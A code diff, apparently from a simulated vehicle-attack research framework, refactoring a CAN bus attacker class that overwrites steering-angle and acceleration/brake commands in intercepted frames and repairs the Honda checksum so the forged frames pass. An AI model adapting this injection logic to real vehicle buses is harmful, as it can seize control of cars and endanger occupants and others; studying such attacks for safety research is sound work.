@@ -6,7 +6,13 @@
 
 namespace scaa::attack {
 
-CanAttacker::CanAttacker(const can::Database& db) : db_(&db) {}
+CanAttacker::CanAttacker(const can::Database& db)
+    : steer_angle_sig_(&db.signal(db.signal_handle("STEERING_CONTROL",
+                                                   can::sig::kSteerAngleCmd))),
+      accel_sig_(&db.signal(
+          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kAccelCmd))),
+      brake_request_sig_(&db.signal(
+          db.signal_handle("GAS_BRAKE_COMMAND", can::sig::kBrakeRequest))) {}
 
 std::uint64_t CanAttacker::attach(can::CanBus& bus) {
   return bus.attach_interceptor(
@@ -15,11 +21,11 @@ std::uint64_t CanAttacker::attach(can::CanBus& bus) {
 
 bool CanAttacker::intercept(can::CanFrame& frame) {
   if (frame.id == can::msg_id::kSteeringControl) {
-    const can::DbcMessage* layout = db_->by_id(frame.id);
-    const can::DbcSignal* sig = layout->find_signal(can::sig::kSteerAngleCmd);
-    last_original_steer_ = units::deg_to_rad(sig->decode(frame.data));
+    last_original_steer_ =
+        units::deg_to_rad(steer_angle_sig_->decode(frame.data));
     if (values_.steer_cmd.has_value()) {
-      sig->encode(frame.data, units::rad_to_deg(*values_.steer_cmd));
+      steer_angle_sig_->encode(frame.data,
+                               units::rad_to_deg(*values_.steer_cmd));
       can::apply_honda_checksum(frame);  // repair integrity (Fig. 4)
       ++corrupted_;
     }
@@ -28,11 +34,9 @@ bool CanAttacker::intercept(can::CanFrame& frame) {
 
   if (frame.id == can::msg_id::kGasBrakeCommand &&
       values_.accel_cmd.has_value()) {
-    const can::DbcMessage* layout = db_->by_id(frame.id);
-    layout->find_signal(can::sig::kAccelCmd)
-        ->encode(frame.data, *values_.accel_cmd);
-    layout->find_signal(can::sig::kBrakeRequest)
-        ->encode(frame.data, *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
+    accel_sig_->encode(frame.data, *values_.accel_cmd);
+    brake_request_sig_->encode(frame.data,
+                               *values_.accel_cmd < 0.0 ? 1.0 : 0.0);
     can::apply_honda_checksum(frame);
     ++corrupted_;
     return true;
